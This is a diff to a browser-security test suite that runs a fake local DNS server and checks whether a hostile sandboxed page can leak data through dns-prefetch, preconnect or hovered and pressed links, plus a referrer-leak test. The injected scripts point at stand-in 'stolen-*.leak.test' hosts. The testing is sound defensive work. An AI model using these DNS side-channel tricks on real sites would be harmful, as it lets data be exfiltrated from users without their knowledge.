@@ -8,6 +8,7 @@ import struct
 import threading
 import time
 
+from selenium.webdriver.common.action_chains import ActionChains
 from selenium.webdriver.common.by import By
 
 from origins import curtain, foreign_tries, hostile_address, inside, site_text, wait_site
@@ -150,41 +151,81 @@ def allowed(world, page, feature):
         return feature if page.run("return document.featurePolicy.allowsFeature(arguments[0])", feature) else ""
 
 
-def looked_up(world, page, name):
-    """Whether the browser asks a name service for a name that a hostile site has written into a link, which tells somebody
-    outside. For the other two ways to write it there is no guard: see docs/threat-model.md."""
+# Ways to have a browser look a name up before anything is loaded from it, and what a person does meanwhile.
+NAMES = ("a link", "a link under the pointer", "a link that is pressed", "dns-prefetch", "preconnect")
+
+
+@contextlib.contextmanager
+def name_service():
+    """A name service that knows nothing, and the names it was asked for."""
     asked = []
     service = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     service.bind(("127.0.0.1", 53))
     # So that the thread below hears of the end, and the next attempt finds the port free.
     service.settimeout(0.2)
+    over = threading.Event()
 
     def answer():
-        while True:
+        while not over.is_set():
             try:
                 question, sender = service.recvfrom(2048)
             except TimeoutError:
                 continue
-            except OSError:
-                return
             labels, at = [], 12
             while question[at]:
                 labels.append(question[at + 1:at + 1 + question[at]].decode("latin-1"))
                 at += 1 + question[at]
             asked.append(".".join(labels))
             service.sendto(question[:2] + struct.pack(">HHHHH", 0x8183, 1, 0, 0, 0) + question[12:at + 5], sender)
-    threading.Thread(target=answer, daemon=True).start()
+    thread = threading.Thread(target=answer, daemon=True)
+    thread.start()
     try:
-        page.driver.get(address(world, leave=99))
-        page.wait(lambda: (site_text(page) or "").endswith("leaving"), "the site")
-        with inside(page):
-            page.run("for (const rel of ['dns-prefetch', 'preconnect']) { const l = document.createElement('link'); l.rel = rel;"
-                     "l.href = `http://stolen-${rel}.leak.test/`; document.head.append(l); }"
-                     "const a = document.createElement('a'); a.href = 'http://stolen-link.leak.test/'; a.textContent = 'x'; document.body.append(a);")
-        time.sleep(2)  # for the question to be asked, there is nothing to wait for
+        yield asked
     finally:
+        over.set()
+        thread.join()
         service.close()
-    return ", ".join(sorted({text for text in asked if text.endswith("leak.test") and name in text}))
+
+
+def points_at(way, name):
+    """The script by which a site has a name looked up: as an expression."""
+    if way.startswith("a link"):
+        return ("document.body.prepend(Object.assign(document.createElement('a'), "
+                f"{{href: 'http://{name}/', textContent: 'a link', id: 'trap', style: 'display: block'}}))")
+    return f"document.head.append(Object.assign(document.createElement('link'), {{rel: '{way}', href: 'http://{name}/'}}))"
+
+
+def looked_up(world, page, way):
+    """Whether the browser asks a name service for a name that a hostile site made up, which tells somebody outside."""
+    name = f"stolen-{NAMES.index(way)}.leak.test"
+    page.driver.get(address(world, leave=99))
+    page.wait(lambda: (site_text(page) or "").endswith("leaving"), "the site")
+    with name_service() as asked, inside(page):
+        page.run(points_at(way, name))
+        if "pointer" in way or "pressed" in way:
+            ActionChains(page.driver).move_to_element(page.one("#trap")).perform()
+        if "pressed" in way:
+            ActionChains(page.driver).click_and_hold(page.one("#trap")).perform()
+        with contextlib.suppress(AssertionError):  # where nobody asks, there is nothing to wait for
+            page.wait(lambda: name in asked, "the question", 4)
+    return f"asked for {name}" if name in asked else ""
+
+
+def looked_up_in_firefox(world, page, way):
+    """The same in Firefox."""
+    name = f"stolen-{NAMES.index(way)}.leak.test"
+    page.get(address(world, leave=99))
+    page.wait(lambda: (page.in_site("document.body.innerText") or "").endswith("leaving"), "the site")
+    with name_service() as asked:
+        page.in_site(f"{points_at(way, name)}, 1")
+        steps = [{"type": "pointerMove", "x": 20, "y": 15}, {"type": "pause", "duration": 100}, {"type": "pointerMove", "x": 24, "y": 15}]
+        if "pressed" in way:
+            steps.append({"type": "pointerDown", "button": 0})
+        if "pointer" in way or "pressed" in way:
+            page.command("input.performActions", context=page.frame(), actions=[{"type": "pointer", "id": "mouse", "actions": steps}])
+        with contextlib.suppress(AssertionError):
+            page.wait(lambda: name in asked, "the question", 4)
+    return f"asked for {name}" if name in asked else ""
 
 
 # MARK: A web page elsewhere
@@ -270,13 +311,15 @@ def plain(world, page, _):
 
 
 def way_out(world, page, _):
-    """Who is told where somebody comes from that follows a link out."""
+    """Who is told where somebody comes from that follows a link out. The target is a place that browsers trust as much as
+    the viewer's own address, as they do every one of HTTPS: a lesser one they tell nothing, whatever the viewer says."""
+    target = f"127.0.0.2:{world.outside}"
     page.driver.get(f"{world.url}p/{world.neighbour.id}/")
     wait_site(page, "shell home")
     with inside(page):
-        page.run("document.getElementById('out').href = arguments[0]", f"http://out.example:{world.outside}/")
+        page.run("document.getElementById('out').href = arguments[0]", f"http://{target}/")
         page.one("#out").click()
-    page.wait(lambda: f"out.example:{world.outside}" in curtain(page), "the target")
+    page.wait(lambda: target in curtain(page), "the target")
     page.one("#curtain-open").click()
     page.wait(lambda: world.hits, "the target being visited")
     return next((hit for hit in world.hits if "from" in hit), "")
